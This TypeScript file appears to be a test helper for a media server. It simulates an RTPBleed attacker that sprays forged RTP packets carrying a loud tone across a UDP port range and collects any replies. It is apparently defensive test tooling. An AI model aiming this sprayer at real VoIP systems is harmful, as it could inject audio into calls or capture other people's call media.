import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { encodeG711 } from '../../packages/rtp/src/index.ts'

/**
 * An attacker who has seen nothing of a call and hopes for its media (RTPBleed): from several sockets, packets of every
 * usual format to every port of a range, again and again. A loud tone, so that one could hear it.
 */
export type Attacker = {
  readonly sentPackets: number
  /** Whatever came back. */
  readonly received: readonly Buffer[]
  /** Resolves once the whole range has been sprayed this many times more. */
  rounds(count: number): Promise<void>
  stop(): void
}

export type AttackerOptions = {
  readonly host?: string
  /** Where it sends from. */
  readonly from?: string
  readonly firstPort: number
  readonly lastPort: number
  readonly sockets?: number
}

/** Higher than most of a voice. */
export const ATTACK_TONE_HZ = 2600
const PACKET_MS = 20
const PACKET_SAMPLES = 160
/** PCMU, PCMA, comfort noise, and what is often Opus or a key. */
const PAYLOAD_TYPES = [0, 8, 13, 96, 101, 111]
const MAX_RECEIVED = 1000

export async function startAttacker(options: AttackerOptions): Promise<Attacker> {
  const { host = '127.0.0.1', from = host, firstPort, lastPort, sockets: count = 4 } = options
  const received: Buffer[] = []
  const sockets = await Promise.all(Array.from({ length: count }, () => open(from, received)))
  const waiting = new Set<{ left: number; done: () => void }>()
  let sentPackets = 0
  let round = 0
  const timer = setInterval(() => {
    for (const [index, socket] of sockets.entries()) {
      const packet = attack(index, PAYLOAD_TYPES[(round + index) % PAYLOAD_TYPES.length]!, round)
      for (let port = firstPort; port <= lastPort; port++) {
        socket.send(packet, port, host)
        sentPackets++
      }
    }
    round++
    for (const wait of waiting) {
      if (--wait.left > 0) continue
      waiting.delete(wait)
      wait.done()
    }
  }, PACKET_MS)
  return {
    get sentPackets() {
      return sentPackets
    },
    received,
    rounds: (left) => new Promise((done) => void waiting.add({ left, done })),
    stop() {
      clearInterval(timer)
      for (const socket of sockets) socket.close()
    },
  }
}

async function open(host: string, received: Buffer[]): Promise<Socket> {
  const socket = createSocket('udp4')
  socket.on('error', () => undefined)
  socket.on('message', (bytes) => {
    if (received.length < MAX_RECEIVED) received.push(bytes)
  })
  socket.bind(0, host)
  await once(socket, 'listening')
  return socket
}

/** RFC 3550 section 5.1. */
function attack(attacker: number, payloadType: number, round: number): Buffer {
  const packet = Buffer.alloc(12 + PACKET_SAMPLES)
  packet[0] = 0x80
  packet[1] = payloadType
  packet.writeUInt16BE(round & 0xffff, 2)
  packet.writeUInt32BE((round * PACKET_SAMPLES) >>> 0, 4)
  packet.writeUInt32BE(0xbad00000 + attacker, 8)
  const tone = Int16Array.from(
    { length: PACKET_SAMPLES },
    (_, index) => 30_000 * Math.sin((2 * Math.PI * ATTACK_TONE_HZ * index) / 8000),
  )
  encodeG711(payloadType === 8 ? 'a-law' : 'mu-law', tone, packet.subarray(12))
  return packet
}
